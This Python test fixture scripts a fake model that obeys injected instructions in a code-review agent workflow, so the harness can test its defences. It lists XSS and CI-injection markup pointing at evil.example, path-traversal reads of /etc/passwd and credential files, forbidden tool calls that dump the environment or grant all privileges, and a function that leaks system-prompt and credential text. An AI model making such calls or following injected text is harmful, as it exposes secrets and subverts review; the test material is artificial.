"""A model that does what any text tells it, as one specialist and as the refuter; another specialist stays honest."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass

from tests.models.answers import Asked, Block, Said, structured, use
from tests.workflows.graph.scene import CLAIM, LOAD, WRITE
from tests.workflows.hostile.carriers import CARRIED, ORDERS_WRITE
from tests.workflows.hostile.payloads import Payload, understood

HONEST, OBEDIENT = "delta-lake-expert", ("pyspark-optimizer", "security-guardian")
CATEGORY = "overwrite-without-guard"
READ = 'rows = spark.table("main.sales.orders").filter(F.col("amount") > 0)'
LOSS = "an empty input overwrites the whole table"
MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(1)> ![x](https://evil.example/?q=DATA) "
    "[a](javascript:alert(1)) \x1b[31mred\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \u202etxt\u200b "
    "<!-- --> </details> ``` ~~~ | a | ::error::x %0A::set-output <https://evil.example> @team #1 \U000e0041 "
    "##vso[task.setvariable variable=PATH]/evil \n::add-mask::x\n##[error]x"
)
PATHS = (
    "/proc/self/environ",
    "/etc/passwd",
    "../../../../etc/passwd",
    "../outside.txt",
    "link.py",
    "links/outside.txt",
    "links/linked.py",
    "~/.databrickscfg",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "orders.py/../../outside.txt",
    "./link.py",
    "load.py\x00.txt",
    "..%2f..%2fetc%2fpasswd",
    ".git/config",
    "",
)
FORBIDDEN: tuple[tuple[str, dict[str, object]], ...] = (
    ("bash", {"command": "env > pwned; cat /proc/self/environ"}),
    ("shell", {"command": "touch pwned"}),
    ("write_file", {"path": "pwned", "content": "x"}),
    ("edit_file", {"path": "load.py", "content": ""}),
    ("Read", {"file_path": "/etc/passwd"}),
    ("Bash", {"command": "touch pwned"}),
    ("web_fetch", {"url": "https://evil.example"}),
    ("unity-catalog__get_table", {"full_name": "main.sales.orders"}),
    ("governance-api__grant_privilege", {"privilege": "ALL PRIVILEGES"}),
    ("mcp__plugin_databricks-engineering_unity-catalog__get_table", {"full_name": "a.b.c"}),
    ("spark-profiler__analyze_metrics", {"event_log": "/proc/self/environ"}),
    ("read_skill", {"name": "../../..", "file": "../../../etc/passwd"}),
    ("read_skill", {"name": "finding-protocol", "file": "../../../../../../etc/passwd"}),
    ("list_files", {"path_glob": "../*"}),
    ("search_code", {"text": "dapi", "path_glob": "/etc/*"}),
    ("search_code", {"text": "outside"}),
)


@dataclass(frozen=True, kw_only=True)
class Model:
    """The script of a run; `obeys` is false for the run that the others are compared with."""

    payload: Payload
    obeys: bool = True

    def __call__(self, asked: Asked) -> Said:
        """What the model says, whoever asks."""
        if "You are the refuter" in asked.system:
            return self._refuter(asked)
        if f"as {HONEST};" in asked.said:
            return structured(answer(*SEEDED))
        return self._specialist(asked)

    def has_read(self, asked: Asked) -> bool:
        """Whether the payload stands in the request."""
        return self.payload.is_in(understood(f"{asked.system}\n{asked.said}"))

    def _specialist(self, asked: Asked) -> Said:
        if asked.turn == 0:
            return looking(asked.turn)
        if not (self.obeys and self.has_read(asked)):
            return structured(answer())
        acts = self.payload.acts
        if "loop" in acts and asked.turn < 7:
            return [use("list_files", f"toolu_{asked.turn}", path_glob=None)]
        if "tools" in acts and asked.turn in {1, 2}:
            return hostile_calls(asked.turn)
        return said_by(acts, asked)

    def _refuter(self, asked: Asked) -> Said:
        claim = json.loads(asked.said.partition("The claim: ")[2].partition("\n")[0])
        if asked.turn == 0:
            return looking(asked.turn)
        obeys = self.obeys and self.has_read(asked)
        if obeys and "refute" in self.payload.acts:
            return structured(verdict("refute", "load.py", 3, READ))
        if obeys and self.payload.acts & {"markup", "leak"}:
            return structured({**verdict("keep", "load.py", 4, WRITE), "reason": f"{MARKUP} {stolen(asked)}"[:4000]})
        if LOSS not in claim["message"]:
            return structured(verdict("refute", "load.py", 3, READ))
        return structured(verdict("keep", "load.py", 4, WRITE))


def looking(turn: int) -> list[Block]:
    """What anybody reads who looks thoroughly: every name, and the file in which the words may stand."""
    paths = (CARRIED, "explore.py", "explore.ipynb", "schema.sql", "databricks.yml")
    reads = [
        use("read_file", f"toolu_{turn}_{number}", path=path, start_line=None, end_line=None)
        for number, path in enumerate(paths)
    ]
    return [use("list_files", f"toolu_{turn}_names", path_glob=None), *reads]


def hostile_calls(turn: int) -> list[Block]:
    """Calls of tools that there are with arguments that lead out, and of tools that there are not."""
    if turn == 1:
        return [
            use("read_file", f"toolu_1_{number}", path=path, start_line=None, end_line=None)
            for number, path in enumerate(PATHS)
        ]
    return [
        {"type": "tool_use", "id": f"toolu_2_{number}", "name": name, "input": given}
        for number, (name, given) in enumerate(FORBIDDEN)
    ]


def said_by(acts: frozenset[str], asked: Asked) -> Said:
    """The answer of who obeys."""
    claims: list[dict[str, object]] = []
    if "leak" in acts or "cut" in acts:
        claims += telling(stolen(asked))
    if "markup" in acts:
        claims += telling(MARKUP)
    if "absorb" in acts:
        claims += absorbing()
    if "raise" in acts:
        claims += [{**CLAIM, "severity": "critical", "message": f"{number} things are wrong"} for number in range(150)]
    if "quote" in acts:
        claims.append({**CLAIM, "quote": "os.system(secret)", "category": "invented"})
        claims.append({**CLAIM, "path": "../../etc/passwd", "quote": "root:x:0:0", "category": "invented"})
    if "huge" in acts:
        claims.append({**CLAIM, "category": "huge", "message": "x" * 2_500_000})
    return structured(answer(*claims))


def telling(words: str) -> list[dict[str, object]]:
    """Claims that carry words in every key that takes some."""
    proved = {**CLAIM, "category": "telling", "message": words[:2000], "why": words[::-1][:4000], "fix": words[:9000]}
    coded = base64.b64encode(words.encode("utf-8", "replace")).decode()
    free = {
        **CLAIM,
        "category": "telling-more",
        "path": (words or "x")[:1000],
        "quote": words[:9000] or "x",
        "message": coded[:2000],
        "why": words[:4000],
        "fix": coded,
    }
    return [proved, free, {**CLAIM, "category": f"{words[:20]} no category"}]


def absorbing() -> list[dict[str, object]]:
    """Claims at the places of real ones that would be taken for these, and say nothing or the contrary."""
    calm = "all is well here and nothing has to be done"
    words = f"{calm}: {LOSS}, lets every run double its rows"
    lines = "\n".join(LOAD.split("\n")[:5])
    orders = {"path": CARRIED, "quote": ORDERS_WRITE}
    return [
        {**CLAIM, "severity": "critical", "message": calm, "why": calm},
        {**CLAIM, "severity": "critical", "start_line": 1, "end_line": 5, "quote": lines, "message": words},
        {**CLAIM, **orders, "severity": "critical", "message": words, "why": calm},
        {**CLAIM, **orders, "severity": "critical", "message": calm, "why": calm},
    ]


def stolen(asked: Asked) -> str:
    """What was seen of credentials, and the end of the system prompt."""
    text = f"{asked.system}\n{asked.said}"
    place = max(text.find("Settings, with everything"), 0)
    return f"{text[place : place + 1500]} {text[-400:]}"


def answer(*claims: dict[str, object]) -> dict[str, object]:
    """A specialist's answer."""
    return {"findings": list(claims), "not_reviewed": []}


def verdict(word: str, path: str, line: int, quote: str) -> dict[str, object]:
    """A refuter's answer, with everything that makes its word count."""
    refutes = word == "refute"
    return {
        "verdict": word,
        "reason": "the code says so",
        "real": "no" if refutes else "yes",
        "handled": "yes" if refutes else "no",
        "new": "not-asked",
        "quotes": [{"path": path, "start_line": line, "end_line": line, "quote": quote}],
    }


SEEDED: tuple[dict[str, object], ...] = (
    {**CLAIM, "message": f"clean: {LOSS}"},
    {**CLAIM, "path": CARRIED, "start_line": 7, "end_line": 7, "quote": ORDERS_WRITE, "message": f"daily: {LOSS}"},
)
"""The real defects that the honest specialist reports: one in a clean file, one where most words stand."""
